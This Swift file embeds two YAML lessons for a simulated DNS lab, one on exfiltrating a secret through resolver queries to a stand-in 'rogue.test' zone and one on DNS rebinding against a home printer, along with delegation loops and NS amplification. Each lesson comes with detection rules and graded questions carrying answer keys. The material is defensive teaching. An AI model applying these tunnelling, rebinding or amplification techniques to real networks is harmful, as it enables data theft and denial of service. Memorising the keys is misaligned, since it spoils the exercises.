// The lessons about what can be done with a zone of one's own, as the YAML that `netstead lab lesson D13 --print` prints. A test runs each of them to its end.
// Not here: the first lessons about names (NameLessons), bytes and load (NameServiceLessons), the form (LessonReader), the list (BuiltInLessons).

/// Lessons D13, D14.
enum NameAttackLessons {
  static let tunnel = #"""
    schema: 1
    id: D13
    version: 1
    title: A file in the questions
    chapter: DNS
    minutes: 20
    text: |
      pc may reach nothing but its resolver. That is enough to carry a file out: it is cut into pieces, each piece becomes the name of a question about a zone whose
      server belongs to rogue, and the resolver itself delivers it. A label holds 63 bytes, a name 255. Decode the names, count what one question carries, and
      find a rule by which a resolver tells this from people who just use many names.
    world:
      hosts: [pc, pc2, resolver, rogue, ns1.garnet.test]
      draw: {user: word, secret: word, place: word, repeats: 40..60, bound: 5..7, a: word, b: word, c: word, d: word, e: word}
      more: |
        zones:
          rogue.test:
            served-by: [rogue]
            ttl: 60
            records: |
              *.t 1 TXT "more"
    steps:
      - {do: "pc2 asks resolver {a}.maybe.garnet.test A", every: 1s, text: "Somebody who uses many names, and means no harm."}
      - {do: "pc2 asks resolver {b}.maybe.garnet.test A", every: 1s}
      - {do: "pc2 asks resolver {c}.maybe.garnet.test A", every: 1s}
      - {do: "pc2 asks resolver {d}.maybe.garnet.test A", every: 1s}
      - {do: "pc2 asks resolver {e}.maybe.garnet.test A", every: 1s}
      - {do: "pc2 asks resolver {a}{b}.maybe.garnet.test A", every: 1s}
      - {do: "pc2 asks resolver {c}{d}.maybe.garnet.test A", every: 1s}
      - {do: "pc2 asks resolver {e}{a}.maybe.garnet.test A", every: 1s}
      - do: 'pc smuggles "{user} has {secret} in {place}. " repeated {repeats} to t.rogue.test through resolver'
        at: 20s
        text: The names are hexadecimal digits, two for each character, behind a number.
    guards:
      - id: watch
        title: A rule
        text: The resolver refuses who asks for more than {bound} names below one domain within a minute, if these have more than 24 bytes each on the average.
        world:
          more: |
            resolvers: {resolver: {tunnels: {names: {bound}, bytes: 24, window: 1m, block: 10m}}}
        steps:
          - {do: pc asks resolver www.garnet.test A, at: 60s, text: What else pc asks for is answered.}
      - id: crude
        title: A cruder rule
        text: The same without regard to length.
        world:
          more: |
            resolvers: {resolver: {tunnels: {names: {bound}, bytes: 0, window: 1m, block: 10m}}}
        steps:
          - {do: pc asks resolver www.garnet.test A, at: 60s}
    questions:
      - id: guess
        ask: "Before the run: a name has at most 255 bytes, each label's length and the root's included. 14 of them are those of t.rogue.test, two a number's. Two digits carry one byte. How many bytes can one question at most carry out?"
        kind: predict
        key: (length((dns.query where from == "pc" and type == "TXT")[0].name) - 18) / 2
        read: (dns.query where from == "pc" and type == "TXT")[0]
      - id: questions
        ask: In how many questions did the file leave pc?
        kind: number
        key: count(dns.query where from == "pc" and type == "TXT")
        read: dns.query where from == "pc" and type == "TXT"
      - id: longest
        ask: How many characters has the longest name, its dots included and without one at the end?
        kind: number
        key: length((dns.query where from == "pc" and type == "TXT")[0].name)
        read: (dns.query where from == "pc" and type == "TXT")[0]
      - id: secret
        ask: Which word stands behind `has` in the file? Decode the second label of the first name.
        kind: text
        key: draw["secret"]
        read: (dns.query where from == "pc" and type == "TXT")[0]
        hint: 68 61 73 20 is `has` and a space.
      - id: who
        ask: Which host delivered it to rogue?
        kind: text
        key: (dns.query where to == "rogue")[0].from
        read: (dns.query where to == "rogue")[0]
      - id: shortened
        ask: How many questions came to rogue in all?
        kind: number
        key: count(dns.query where to == "rogue")
        read: dns.query where to == "rogue"
        hint: The resolver shows a server no more of a name than it has to, so that a new branch takes some questions more.
      - id: wire
        ask: How many bytes did pc's questions of type TXT take in all?
        kind: number
        key: sum((dns.query where from == "pc" and type == "TXT").bytes)
        read: dns.query where from == "pc" and type == "TXT"
      - id: honest
        ask: How many different names below garnet.test did pc2 ask for?
        kind: number
        key: count(distinct((dns.query where from == "pc2").name))
        read: dns.query where from == "pc2"
      - id: mean
        ask: And how many characters had the names it asked for on the average?
        kind: number
        tolerance: 0.5
        key: sum((dns.query where from == "pc2").bytes) / count(dns.query where from == "pc2") - 12 - 4 - 11 - 2
        read: dns.query where from == "pc2"
        hint: The characters of a name without the dot at its end are two fewer than its bytes; the message has 12 bytes of head, 4 behind the name, and an OPT record of 11.
      - id: refused
        ask: With the rule, how many of pc's questions of type TXT were answered before one was refused?
        kind: number
        run: watch
        key: count(dns.response where to == "pc" and type == "TXT" and rcode == "NOERROR")
        read: dns.response where to == "pc" and type == "TXT"
      - id: mark
        ask: Mark the refusal.
        kind: mark
        run: watch
        key: (dns.response where to == "pc" and rcode == "REFUSED")[0]
      - id: others
        ask: Was pc's question for another domain answered then?
        kind: choice
        options: ["yes", "no"]
        run: watch
        key: if(last(dns.response where to == "pc").rcode == "NOERROR", "yes", "no")
        read: last(dns.response where to == "pc")
      - id: crude
        ask: Under the cruder rule, how many of pc2's questions were refused?
        kind: number
        run: crude
        key: count(dns.response where to == "pc2" and rcode == "REFUSED")
        read: dns.response where to == "pc2"
    """#

  static let rebinding = #"""
    schema: 1
    id: D14
    version: 2
    title: A name that turns inwards
    chapter: DNS
    minutes: 20
    text: |
      A browser lets a page read what comes from the page's own site, and it knows a site by its name. rogue owns a name and gives it a short life. First it leads to
      rogue's page; a moment later, to a printer in the reader's own network. Nobody broke in: the reader's browser does the asking. And whoever owns a zone can write
      delegations that keep a resolver busy, with itself or with somebody else's servers.
    world:
      hosts: [pc, resolver, rogue, printer, ns1.cobalt.test, ns2.cobalt.test]
      draw: {last: 2..250, secret: word, lure: word, ghost: word, mirror: word, game: word, life: 1..4}
      records:
        cobalt.test: |
          *.{ghost} TXT "no addresses here"
      more: |
        nets:
          home: {prefixes: [10.0.0.0/24], delay: 1ms}
        hosts:
          printer: {addresses: [10.0.0.{last}]}
        zones:
          rogue.test:
            served-by: [rogue]
            ttl: {life}
            records: |
              left   NS ns.right
              right  NS ns.left
              {mirror}    NS ns.{mirror}
              ns.{mirror} A  203.0.113.53
              many   NS n01.{ghost}.cobalt.test.
              many   NS n02.{ghost}.cobalt.test.
              many   NS n03.{ghost}.cobalt.test.
              many   NS n04.{ghost}.cobalt.test.
              many   NS n05.{ghost}.cobalt.test.
              many   NS n06.{ghost}.cobalt.test.
              many   NS n07.{ghost}.cobalt.test.
              many   NS n08.{ghost}.cobalt.test.
              many   NS n09.{ghost}.cobalt.test.
              many   NS n10.{ghost}.cobalt.test.
        sites:
          {game}.rogue.test: {host: rogue, files: {/index.html: "<p>{lure}</p>\n"}}
          printer.test: {host: printer, files: {/status.txt: "paper 12, last page for {secret}\n"}}
    steps:
      - {do: "pc gets http://{game}.rogue.test/", text: A page of rogue's.}
      - {do: "zone rogue.test sets {game} {life} A 10.0.0.{last}", at: 5s, text: The name moves.}
      - {do: "pc gets http://{game}.rogue.test/status.txt from http://{game}.rogue.test/", at: 10s, text: The page fetches something from its own site. Who answers?}
    faults:
      - id: circle
        title: Two zones that need each other
        text: The servers of left are said to stand in right, those of right in left.
        steps:
          - {do: pc asks resolver www.left.rogue.test A, at: 20s}
      - id: mirror
        title: Glue that points at whoever asks
        text: The server of {mirror} is said to stand at the resolver's own address.
        steps:
          - {do: "pc asks resolver www.{mirror}.rogue.test A", at: 20s}
      - id: bomb
        title: Ten servers that do not exist
        text: The servers of many have names below somebody else's zone. This resolver looks for as many as there are.
        world:
          more: |
            resolvers: {resolver: {queries: 1000, look-ups: 1000, dead-servers: 1000}}
        steps:
          - {do: pc asks resolver www.many.rogue.test A, at: 20s}
    guards:
      - id: screen
        title: No names that lead inside
        text: The resolver leaves addresses of private networks out of its answers.
        world:
          more: |
            resolvers: {resolver: {inside: no}}
        steps:
          - {do: "pc asks resolver {game}.rogue.test A", at: 20s}
      - id: limits
        title: Bounds on work
        text: The production bounds on names that lead nowhere and on questions for one question.
        against: bomb
        steps:
          - {do: pc asks resolver www.many.rogue.test A, at: 20s}
    questions:
      - id: guess
        ask: "Before the run: the page's name leads to another address now. Does the browser still take what comes from there for the page's own site?"
        kind: predict
        options: ["yes", "no"]
        key: if((http.response where to == "pc")[1].status == 200, "yes", "no")
        read: (http.response where to == "pc")[1]
      - id: first
        ask: Which address did the name lead to at first?
        kind: text
        key: (dns.response where to == "pc")[0].answer[0].data
        read: (dns.response where to == "pc")[0]
      - id: life
        ask: For how many seconds might pc keep it?
        kind: number
        key: (dns.response where to == "pc")[0].answer[0].ttl
        read: (dns.response where to == "pc")[0]
      - id: second
        ask: And which address did it lead to the second time?
        kind: text
        key: (dns.response where to == "pc")[1].answer[0].data
        read: (dns.response where to == "pc")[1]
      - id: host
        ask: Which Host did the printer get told?
        kind: text
        key: (http.request where to == "printer")[0].host
      - id: leak
        ask: What does the page know now? Give the whole line.
        kind: text
        key: (http.response where from == "printer")[0].body
      - id: screened
        ask: With the private addresses left out, how many requests came to the printer?
        kind: number
        run: screen
        key: count(http.request where to == "printer")
      - id: empty
        ask: How many addresses had the resolver's last answer to pc then?
        kind: number
        run: screen
        key: count(last(dns.response where to == "pc").answer)
        read: last(dns.response where to == "pc")
      - id: circle
        ask: What did the resolver say about the two zones that need each other?
        kind: text
        run: circle
        key: last(dns.response where to == "pc").rcode
        read: last(dns.response where to == "pc")
      - id: effort
        ask: How many questions did it ask for that?
        kind: number
        run: circle
        key: count(dns.query where from == "resolver" and time > 19s)
        read: dns.query where from == "resolver" and time > 19s
      - id: mirror
        ask: How many questions about www.{mirror}.rogue.test did the resolver put to itself?
        kind: number
        run: mirror
        key: count(dns.query where from == "resolver" and to == "resolver")
        read: dns.query where from == "resolver" and to == "resolver"
      - id: itself
        ask: And what did it answer itself? It serves its net, and looks nothing up for those who do not ask for it (RD).
        kind: text
        run: mirror
        key: (dns.response where from == "resolver" and to == "resolver")[0].rcode
        read: (dns.response where from == "resolver" and to == "resolver")[0]
      - id: bomb
        ask: How many questions did the servers of cobalt.test get for one question of pc, without bounds?
        kind: number
        run: bomb
        key: count(dns.query where from == "resolver" and time > 19s and (host == "ns1.cobalt.test" or host == "ns2.cobalt.test"))
        read: dns.query where from == "resolver" and time > 19s
      - id: limits
        ask: And with the bounds?
        kind: number
        run: limits
        key: count(dns.query where from == "resolver" and time > 19s and (host == "ns1.cobalt.test" or host == "ns2.cobalt.test"))
        read: dns.query where from == "resolver" and time > 19s
    """#
}
